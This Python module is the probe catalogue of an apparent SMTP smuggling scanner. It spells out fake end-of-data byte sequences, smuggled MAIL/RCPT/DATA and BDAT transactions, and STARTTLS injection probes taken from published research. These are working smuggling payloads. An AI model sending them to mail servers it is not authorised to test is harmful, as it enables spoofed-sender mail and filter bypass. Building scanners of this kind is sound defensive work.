"""The probe catalogue, as data.

Every probe is written as explicit bytes: `prefix + sequence + suffix` in one write, then each
part of `delayed` on its own (split-write probes only), then, after the phase-1 window, `closer`
(usually the standard terminator). The ids E01-E22 are the fake terminators collected from the
public scanners and papers named in `source` (SEC Consult's scanner, hannob's smtpsmug, the
USENIX Security 2025 lab, suuhm's checker), C01-C02 the controls, P01-P08 the protocol-level
probes; `target` says what each aims at.

Every exploitable sequence also comes in four variant forms, with ids `E01-B` and so on:
    -B   the smuggled transaction as BDAT instead of DATA (E02's is P02)
    -L   an LF-only carrier: every header and body line ends in a bare LF
    -LB  both: an LF-only carrier, then a BDAT smuggled transaction
    -S   split write: the smuggled commands one at a time, each after the previous reply or a
         pause (--pause), for servers that refuse input sent ahead of a reply

Placeholders are filled in at run time by `render()`; everything else is sent as written:
    {FROM} {TO}    the envelope addresses given with --from/--to
    {SMUGGLED}     the sender of the smuggled transaction (--smuggled-from, default {FROM})
    {HELO}         the name given with --helo
    {RUN}          an 8-character token naming this run, so a sink can tell runs apart
    {ID}           the probe id
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, replace

RUN_TOKEN_LENGTH = 8
PLACEHOLDERS = ("{FROM}", "{TO}", "{SMUGGLED}", "{HELO}", "{RUN}", "{ID}")


class Kind(enum.Enum):
    """How a probe's result bears on exploitability."""

    # Deliverable through a relay that dot-stuffs correctly.
    EXPLOITABLE = "exploitable"
    # Cannot reach the target through a compliant relay: a "<CRLF>.<not CRLF>" line is
    # dot-stuffed on the way (RFC 5321 §4.5.2), or the sequence holds a real terminator.
    HYGIENE = "hygiene"
    CONTROL = "control"
    PROTOCOL = "protocol"


class Stage(enum.Enum):
    """Where in the session the probe's bytes are written."""

    BEFORE_GREETING = "before-greeting"
    AFTER_GREETING = "after-greeting"
    AFTER_HELO = "after-helo"
    AFTER_EHLO = "after-ehlo"
    IN_DATA = "in-data"
    STARTTLS = "starttls"


class Rule(enum.Enum):
    """Which decision applies to the replies (see verdict.decide)."""

    SMUGGLE = "smuggle"
    ENDS_DATA = "ends-data"
    STAYS_CONTENT = "stays-content"
    STRAY = "stray"
    SYNC = "sync"
    COMMAND = "command"
    STARTTLS = "starttls"


@dataclass(frozen=True)
class Step:
    """One reply the server gives if it goes along with everything the probe sent."""

    label: str
    reply_class: int  # first digit of the reply code: 2 or 3
    ends_message: bool = False  # a 2xx here means the server took a message


@dataclass(frozen=True)
class Probe:
    id: str
    kind: Kind
    stage: Stage
    rule: Rule
    sequence: bytes
    prefix: bytes
    suffix: bytes
    closer: bytes
    expect: tuple[Step, ...]
    source: str
    target: str
    requires: str | None = None  # an EHLO keyword the probe needs, else NOT-APPLICABLE
    # Split write: parts sent one at a time after the first write, each once the previous
    # part got its reply or after the pause, whichever comes first.
    delayed: tuple[bytes, ...] = ()


# RFC 5321 §4.1.1.4: the only end of mail data.
STANDARD_EOD = b"\r\n.\r\n"

# The carrier message: the probe's sequence comes right after its last byte.
CARRIER = (
    b"From: <{FROM}>\r\n"
    b"To: <{TO}>\r\n"
    b"Subject: filterd-smuggle {RUN} {ID} carrier\r\n"
    b"Message-ID: <{RUN}.{ID}.carrier@filterd.invalid>\r\n"
    b"\r\n"
    b"filterd smuggle probe {ID}: the bytes after this line are the probe."
)

# SEC Consult's layout: a CRLF after the sequence, then lower-case smuggled commands.
SMUGGLED_MAIL = b"mail FROM:<{SMUGGLED}>\r\n"
SMUGGLED_RCPT = b"rcpt TO:<{TO}>\r\n"
SMUGGLED_DATA = b"data\r\n"
SMUGGLED_COMMANDS = SMUGGLED_MAIL + SMUGGLED_RCPT + SMUGGLED_DATA
SMUGGLED_CONTENT = (
    b"From: <{SMUGGLED}>\r\n"
    b"To: <{TO}>\r\n"
    b"Subject: filterd-smuggle {RUN} {ID} smuggled\r\n"
    b"Message-ID: <{RUN}.{ID}.smuggled@filterd.invalid>\r\n"
    b"\r\n"
    b"SMUGGLED: {ID} ended DATA early and this second message was accepted."
)
SMUGGLED = b"\r\n" + SMUGGLED_COMMANDS + SMUGGLED_CONTENT

# Exim reads a message whose first header line ends in a bare LF in LF mode: every LF ends a
# line (Exim spec, "Line endings"). The carrier's lines all end in LF; the sequence follows.
LF_CARRIER = CARRIER.replace(b"\r\n", b"\n")

# The smuggled transaction as BDAT (RFC 3030): MAIL, RCPT and BDAT may be pipelined, and
# Postfix's pipelining check flags none of them (Postfix: smtpd_forbid_unauth_pipelining
# checks HELO, EHLO, DATA, NOOP and VRFY only). The chunk holds no address, so its size is
# fixed once the id is known and {RUN} is RUN_TOKEN_LENGTH characters.
BDAT_CHUNK = (
    b"Subject: filterd-smuggle {RUN} {ID} smuggled\r\n"
    b"Message-ID: <{RUN}.{ID}.smuggled@filterd.invalid>\r\n"
    b"\r\n"
    b"SMUGGLED: {ID} ended DATA early and this BDAT message was accepted.\r\n"
)


def bdat_smuggled(probe_id: str) -> bytes:
    """A smuggled MAIL, RCPT and `BDAT n LAST` with its chunk, n counted for this id."""
    chunk = BDAT_CHUNK.replace(b"{ID}", probe_id.encode())
    size = len(chunk.replace(b"{RUN}", b"x" * RUN_TOKEN_LENGTH))
    return b"mail from:<{SMUGGLED}>\r\nrcpt to:<{TO}>\r\n" + b"bdat %d last\r\n" % size + chunk


# A second, ordinary message sent ahead of the replies (P01, P03). Its role is "pipelined",
# not "smuggled": it arriving at a sink proves nothing, because no sequence hid it.
SECOND_CONTENT = (
    b"From: <{FROM}>\r\n"
    b"To: <{TO}>\r\n"
    b"Subject: filterd-smuggle {RUN} {ID} pipelined\r\n"
    b"Message-ID: <{RUN}.{ID}.pipelined@filterd.invalid>\r\n"
    b"\r\n"
    b"filterd smuggle probe {ID}: sent before the server's 354 reply."
)

EOD = Step("end of data", 2, ends_message=True)
SPLIT = (
    EOD,
    Step("smuggled MAIL", 2),
    Step("smuggled RCPT", 2),
    Step("smuggled DATA", 3),
    Step("smuggled end of data", 2, ends_message=True),
)
BDAT_SPLIT = (
    EOD,
    Step("smuggled MAIL", 2),
    Step("smuggled RCPT", 2),
    Step("smuggled BDAT LAST", 2, ends_message=True),
)


def _in_data(  # noqa: PLR0913, PLR0917 (a catalogue row: the fields the rows differ in)
    probe_id: str, sequence: bytes, kind: Kind, rule: Rule, source: str, target: str
) -> Probe:
    """A sequence inside DATA that is not a smuggling attempt by itself, then the closer."""
    return Probe(
        id=probe_id,
        kind=kind,
        stage=Stage.IN_DATA,
        rule=rule,
        sequence=sequence,
        prefix=CARRIER,
        suffix=b"",
        closer=b"",
        expect=(EOD,),
        source=source,
        target=target,
    )


def _fake(probe_id: str, sequence: bytes, kind: Kind, source: str, target: str) -> Probe:
    """A fake terminator in SEC's layout: carrier, sequence, smuggled transaction."""
    probe = _in_data(probe_id, sequence, kind, Rule.SMUGGLE, source, target)
    return replace(probe, suffix=SMUGGLED, closer=STANDARD_EOD, expect=SPLIT)


X, H = Kind.EXPLOITABLE, Kind.HYGIENE
DOT_STUFFED = "; a compliant relay dot-stuffs this line"
REAL_EOD = "; holds a real terminator, so it cannot smuggle"

# Fake terminators: each replaces the standard terminator right after the carrier.
FAKE_TERMINATORS: tuple[Probe, ...] = (
    _fake("E01", b"\n.\n", X, "SEC; smtpsmug lflf; USENIX A1", "bare LF as line end"),
    _fake("E02", b"\n.\r\n", X, "SEC; smtpsmug lfcrlf; CVE-2023-51764", "split on LF, strip CR"),
    _fake("E03", b"\r\n.\n", H, "smtpsmug crlflf; Exim 0900", "dot + LF" + DOT_STUFFED),
    _fake("E04", b"\r.\r", X, "SEC; smtpsmug crcr; USENIX A3", "bare CR rewritten to CRLF"),
    _fake("E05", b"\r.\n", X, "SEC; smtpsmug crlf", "mixed line ends"),
    _fake("E06", b"\n.\r", X, "SEC; smtpsmug lfcr", "LF then '.\\r\\r\\n' in SEC layout"),
    _fake("E07", b"\r.\r\n", X, "SEC; smtpsmug crcrlf; mxcheck", "bare CR rewriting"),
    _fake("E08", b"\r\n.\r", H, "smtpsmug crlfcr; USENIX A6", "lone CR after dot" + DOT_STUFFED),
    _fake("E09", b"\r\n\x00.\r\n", X, "SEC; smtpsmug nullbefore", "NUL stripped or C string"),
    _fake("E10", b"\r\n.\x00\r\n", H, "smtpsmug nullafter", "NUL after dot" + DOT_STUFFED),
    _fake("E11", b"\r\n.\r\r\n", H, "SEC outbound; PR #4", "strip all CRs" + DOT_STUFFED),
    _fake("E12", b"\r\r\n.\r\r\n", H, "SEC outbound; PR #4", "strip all CRs" + DOT_STUFFED),
    _in_data("E13", b"\r\r\n.\r\n", H, Rule.STRAY, "SEC PR #4", "stray CR" + REAL_EOD),
    _fake("E14", b"\n\n.\r\n", X, "suuhm", "E02 after an empty bare-LF line"),
    _fake("E15", b"\r\n\x00.\r", X, "suuhm", "NUL plus lone CR"),
    _fake("E16", b"\r\n\x00.\n", X, "suuhm", "NUL plus lone LF"),
    # E17 depends on what follows; SEC's leading CRLF would make it a real terminator, so
    # the smuggled commands follow the dot directly.
    replace(
        _fake("E17", b"\r\n.", H, "suuhm", "incomplete dot line" + DOT_STUFFED), suffix=SMUGGLED[2:]
    ),
    _in_data("E18", b"\x00\r\n.\r\n", H, Rule.STRAY, "USENIX A7/A10", "NUL" + REAL_EOD),
    _fake("E19", b"\r\x00\n.\r\n", X, "USENIX A9", "NUL splitting CRLF"),
    _fake("E20", b"\r\n.\r\x00\n", H, "USENIX A12", "NUL in terminator" + DOT_STUFFED),
    replace(
        _in_data(
            "E21",
            b"\r\n.\r\n\x00",
            H,
            Rule.COMMAND,
            "USENIX A13",
            "NUL at the start of the next command" + REAL_EOD,
        ),
        suffix=b"QUIT\r\n",
        expect=(EOD, Step("QUIT after NUL", 2)),
    ),
    _fake("E22", b"\r\n. \r\n", H, "Elemta test doc", "dot space, trimmed" + DOT_STUFFED),
)

# Controls that any compliant server passes.
CONTROLS: tuple[Probe, ...] = (
    _in_data(
        "C01", STANDARD_EOD, Kind.CONTROL, Rule.ENDS_DATA, "RFC 5321 §4.1.1.4", "must end DATA"
    ),
    replace(
        _in_data(
            "C02",
            b"\r\n..\r\n",
            Kind.CONTROL,
            Rule.STAYS_CONTENT,
            "RFC 5321 §4.5.2",
            "dot-stuffed line must stay content",
        ),
        closer=STANDARD_EOD,
    ),
)

# Where the protocol probes P04-P08 come from, and what each aims at: (source, target).
SESSION_ABOUT = {
    "P04": ("Postfix/Exim pre-greeting check", "input before the 220 greeting"),
    "P05": ("Postfix EHLO-last rule; Thunderbird", "input after EHLO before its reply"),
    "P06": ("Postfix non-ESMTP rule; Exim", "pipelining in a HELO session, never negotiated"),
    "P07": ("Postfix smtpd_forbid_bare_newline", "bare LF in the command phase"),
    "P08": (
        "CVE-2011-0411; CVE-2024-34083",
        "plaintext commands injected before the TLS handshake",
    ),
}


def _session(probe_id: str, stage: Stage, sequence: bytes, *labels: str) -> Probe:
    """A probe that writes only `sequence`, outside DATA, and expects a 2xx to each label."""
    source, target = SESSION_ABOUT[probe_id]
    return Probe(
        id=probe_id,
        kind=Kind.PROTOCOL,
        stage=stage,
        rule=Rule.SYNC,
        sequence=sequence,
        prefix=b"",
        suffix=b"",
        closer=b"",
        expect=tuple(Step(label, 2) for label in labels),
        source=source,
        target=target,
    )


# Protocol-level probes P01-P08.
PROTOCOL: tuple[Probe, ...] = (
    # Every E row sends the smuggled transaction after its fake terminator; P01 sends such a
    # transaction alone, in one write, to measure the pipelining check even on a server whose
    # terminator is strict. Its message is labelled "pipelined": it is an ordinary message
    # sent early, and its arrival at a sink is no sign of smuggling.
    Probe(
        id="P01",
        kind=Kind.PROTOCOL,
        stage=Stage.AFTER_EHLO,
        rule=Rule.SYNC,
        sequence=SMUGGLED_COMMANDS,
        prefix=b"",
        suffix=SECOND_CONTENT,
        closer=STANDARD_EOD,
        expect=(Step("MAIL", 2), Step("RCPT", 2), Step("DATA", 3), EOD),
        source="SEC template, phase B",
        target="pipelined smuggled transaction, content before 354",
    ),
    Probe(
        id="P02",
        kind=Kind.EXPLOITABLE,
        stage=Stage.IN_DATA,
        rule=Rule.SMUGGLE,
        sequence=b"\n.\r\n",
        prefix=CARRIER,
        suffix=bdat_smuggled("P02"),
        closer=STANDARD_EOD,
        expect=BDAT_SPLIT,
        source="Exim test 0900; Postfix BDAT_README",
        target="BDAT smuggled transaction, never flagged as pipelining",
        requires="CHUNKING",
    ),
    replace(
        _in_data(
            "P03",
            STANDARD_EOD,
            Kind.PROTOCOL,
            Rule.SYNC,
            "smtpsmug pipelining",
            "commands and content pipelined after a real end of data",
        ),
        suffix=b"MAIL FROM:<{FROM}>\r\nRCPT TO:<{TO}>\r\nDATA\r\n" + SECOND_CONTENT,
        closer=STANDARD_EOD,
        expect=(EOD, Step("MAIL", 2), Step("RCPT", 2), Step("DATA", 3), EOD),
    ),
    _session("P04", Stage.BEFORE_GREETING, b"EHLO {HELO}\r\n", "greeting", "EHLO"),
    _session("P05", Stage.AFTER_GREETING, b"EHLO {HELO}\r\nQUIT\r\n", "EHLO", "QUIT"),
    _session("P06", Stage.AFTER_HELO, b"MAIL FROM:<{FROM}>\r\nRCPT TO:<{TO}>\r\n", "MAIL", "RCPT"),
    replace(
        _session("P07", Stage.AFTER_EHLO, b"MAIL FROM:<{FROM}>\n", "MAIL ended by bare LF"),
        rule=Rule.COMMAND,
    ),
    replace(
        _session("P08", Stage.STARTTLS, b"STARTTLS\r\nMAIL FROM:<{FROM}>\r\n", "STARTTLS"),
        rule=Rule.STARTTLS,
        requires="STARTTLS",
    ),
)


def _line_done(sequence: bytes) -> bytes:
    """The bytes that complete the sequence's last line: none if it ends in LF, else CRLF
    (as in SEC's layout, where `\n.\r` is followed by CRLF and becomes `\n.\r\r\n`)."""
    return b"" if sequence.endswith(b"\n") else b"\r\n"


def _bdat(base: Probe) -> Probe:
    return replace(
        base,
        id=f"{base.id}-B",
        suffix=b"\r\n" + bdat_smuggled(f"{base.id}-B"),
        expect=BDAT_SPLIT,
        requires="CHUNKING",
        target=f"{base.target}; BDAT smuggled transaction",
    )


def _lf(base: Probe) -> Probe:
    return replace(
        base, id=f"{base.id}-L", prefix=LF_CARRIER, target=f"{base.target}; LF-only carrier"
    )


def _lf_bdat(base: Probe) -> Probe:
    return replace(
        _bdat(base),
        id=f"{base.id}-LB",
        prefix=LF_CARRIER,
        suffix=b"\r\n" + bdat_smuggled(f"{base.id}-LB"),
        target=f"{base.target}; LF-only carrier, BDAT smuggled transaction",
    )


def _split(base: Probe) -> Probe:
    # OpenSMTPD answers "500 Pipelining not supported" and drops the connection when input
    # is waiting after a line it has just read; commands that come later are executed. So the
    # first write ends with the line the sequence completes, and each smuggled part follows
    # on its own.
    return replace(
        base,
        id=f"{base.id}-S",
        suffix=_line_done(base.sequence),
        delayed=(SMUGGLED_MAIL, SMUGGLED_RCPT, SMUGGLED_DATA, SMUGGLED_CONTENT),
        target=f"{base.target}; smuggled commands split, one write each",
    )


EXPLOITABLE_SEQUENCES = tuple(p for p in FAKE_TERMINATORS if p.kind is Kind.EXPLOITABLE)

# E02's BDAT form is P02, which keeps the id the published attack is known by.
VARIANTS: tuple[Probe, ...] = (
    tuple(_bdat(p) for p in EXPLOITABLE_SEQUENCES if p.id != "E02")
    + tuple(_lf(p) for p in EXPLOITABLE_SEQUENCES)
    + tuple(_lf_bdat(p) for p in EXPLOITABLE_SEQUENCES)
    + tuple(_split(p) for p in EXPLOITABLE_SEQUENCES)
)

CATALOGUE: tuple[Probe, ...] = FAKE_TERMINATORS + CONTROLS + PROTOCOL + VARIANTS
BY_ID: dict[str, Probe] = {probe.id: probe for probe in CATALOGUE}


@dataclass(frozen=True)
class Values:
    """What the placeholders stand for in one run."""

    sender: str
    recipient: str
    smuggled_sender: str
    helo: str
    run: str


def render(template: bytes, probe_id: str, values: Values) -> bytes:
    """Fill in the placeholders of one part of a probe."""
    filled = {
        b"{FROM}": values.sender,
        b"{TO}": values.recipient,
        b"{SMUGGLED}": values.smuggled_sender,
        b"{HELO}": values.helo,
        b"{RUN}": values.run,
        b"{ID}": probe_id,
    }
    out = template
    for token, text in filled.items():
        # RFC 5321 §4.1.2: addresses are sent as given, 8-bit only with SMTPUTF8.
        out = out.replace(token, text.encode("utf-8"))
    return out
